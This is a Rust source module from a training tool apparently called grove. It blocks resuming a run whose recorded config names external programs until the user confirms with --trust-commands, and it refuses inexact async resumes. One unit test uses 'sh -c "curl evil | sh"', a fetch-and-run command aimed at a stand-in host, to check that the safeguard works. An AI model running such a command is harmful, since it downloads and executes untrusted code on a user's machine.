//! What `--resume` may do with what a run directory holds.
//!
//! A run directory is data, and data can be edited by anyone who can write the folder: its
//! `config.toml` must not be able to make grove start a program the user did not name. So a
//! resume whose recorded config names external programs (reward commands) stops before
//! anything is built and lists them, unless the user confirms with `--trust-commands`. Every
//! run's plan lists the external programs it will start ([`external_programs`]).
//!
//! Resume is refused outright in the sync mode where it is not exact (`async`), rather than
//! continuing a run that silently differs from the uninterrupted one.
use std::path::Path;

use super::{RunConfig, SyncMode};
use crate::error::{Error, Result};
use crate::reward::pipeline::ComponentKind;

/// Every external program the run will start, as `name: program args...`, in config order.
pub fn external_programs(cfg: &RunConfig) -> Vec<String> {
    let env = cfg.env.iter().flat_map(|e| e.external_programs());
    let Some(p) = &cfg.reward.pipeline else {
        return env.collect();
    };
    let rewards = p.components.iter().filter_map(|c| match &c.kind {
        ComponentKind::External(e) => Some(format!(
            "reward.pipeline `{}`: {}",
            c.name,
            shell_words(&e.command)
        )),
        _ => None,
    });
    rewards.chain(env).collect()
}

/// The command as one line, each word quoted when it holds a space or a quote.
fn shell_words(words: &[String]) -> String {
    words
        .iter()
        .map(|w| {
            if w.is_empty() || w.contains([' ', '"', '\'', '\t', '\n']) {
                format!("{w:?}")
            } else {
                w.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Refuses to resume `dir` with its recorded `cfg` when that config names external programs
/// and the user has not confirmed them (`trusted`).
pub fn check_trust(dir: &Path, cfg: &RunConfig, trusted: bool) -> Result<()> {
    let programs = external_programs(cfg);
    if programs.is_empty() || trusted {
        return Ok(());
    }
    Err(Error::RunDir {
        path: dir.to_path_buf(),
        msg: format!(
            "its config.toml names external programs that resuming would start:\n  {}\n\
             grove does not run programs recorded in a run directory without confirmation: \
             check them, then resume with --trust-commands",
            programs.join("\n  ")
        ),
    })
}

/// A `--set` value taken as text without quotes: a word of letters, digits and `_-./:+@`
/// that does not start like a number (so `1e-3x` is a typo, not a string).
pub fn is_bare_word(raw: &str) -> bool {
    let starts_numeric = raw
        .trim_start_matches(['+', '-'])
        .starts_with(|c: char| c.is_ascii_digit() || c == '.');
    !raw.is_empty()
        && !starts_numeric
        && raw
            .chars()
            .all(|c| c.is_alphanumeric() || "_-./:+@".contains(c))
}

/// Refuses to resume in a sync mode whose resume is not exact.
pub fn refuse_inexact(cfg: &RunConfig) -> Result<()> {
    if cfg.sync.mode == SyncMode::Async {
        return Err(Error::config(
            "--resume",
            "sync.mode = \"async\" cannot be resumed exactly (the explorer thread's sampling \
             position and the groups it had buffered are not checkpointed), so grove refuses \
             rather than continue a run that would silently differ from the uninterrupted one; \
             start a new run, or train with sync.mode = \"on-policy\" or \"lagged\", which \
             resume exactly",
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reward::external::ExternalConfig;
    use crate::reward::pipeline::{ComponentConfig, PipelineConfig};

    fn with_command(words: &[&str]) -> RunConfig {
        let mut cfg = RunConfig::default();
        let ext = ExternalConfig::new(words.iter().map(|s| s.to_string()).collect());
        cfg.reward.pipeline = Some(PipelineConfig::new(vec![
            ComponentConfig::new(
                "exact",
                ComponentKind::Verifier {
                    check: Default::default(),
                },
            ),
            ComponentConfig::new("judge", ComponentKind::External(ext)),
        ]));
        cfg
    }

    #[test]
    fn recorded_programs_need_confirmation() {
        let cfg = with_command(&["sh", "-c", "curl evil | sh"]);
        assert_eq!(
            external_programs(&cfg),
            vec!["reward.pipeline `judge`: sh -c \"curl evil | sh\"".to_string()]
        );
        let e = check_trust(Path::new("runs/x"), &cfg, false)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("runs/x") && e.contains("curl evil | sh") && e.contains("--trust-commands"),
            "{e}"
        );
        assert!(check_trust(Path::new("runs/x"), &cfg, true).is_ok());
        let plain = RunConfig::default();
        assert!(external_programs(&plain).is_empty());
        assert!(check_trust(Path::new("runs/x"), &plain, false).is_ok());
    }

    #[test]
    fn set_values_that_are_not_toml_are_errors_naming_the_key() {
        let mut t = toml::Table::new();
        super::super::apply_override(&mut t, "sync.mode=lagged").unwrap();
        assert_eq!(t["sync"]["mode"].as_str(), Some("lagged"));
        super::super::apply_override(&mut t, "model.source=runs/a/step-3").unwrap();
        super::super::apply_override(&mut t, "train.lr=3e-4").unwrap();
        assert_eq!(t["train"]["lr"].as_float(), Some(3e-4));
        for bad in ["train.lr=1e-3x", "rollout.group_size=[1, 2", "name=a b"] {
            let e = super::super::apply_override(&mut t, bad)
                .unwrap_err()
                .to_string();
            let key = bad.split('=').next().unwrap();
            assert!(
                e.contains(&format!("`{key}`")) && e.contains("not a TOML value"),
                "{e}"
            );
        }
    }

    #[test]
    fn async_resume_is_refused_naming_the_mode() {
        let mut cfg = RunConfig::default();
        for mode in [SyncMode::OnPolicy, SyncMode::Lagged] {
            cfg.sync.mode = mode;
            assert!(refuse_inexact(&cfg).is_ok(), "{mode:?}");
        }
        cfg.sync.mode = SyncMode::Async;
        let e = refuse_inexact(&cfg).unwrap_err().to_string();
        assert!(
            e.contains("sync.mode = \"async\"") && e.contains("refuses"),
            "{e}"
        );
    }
}
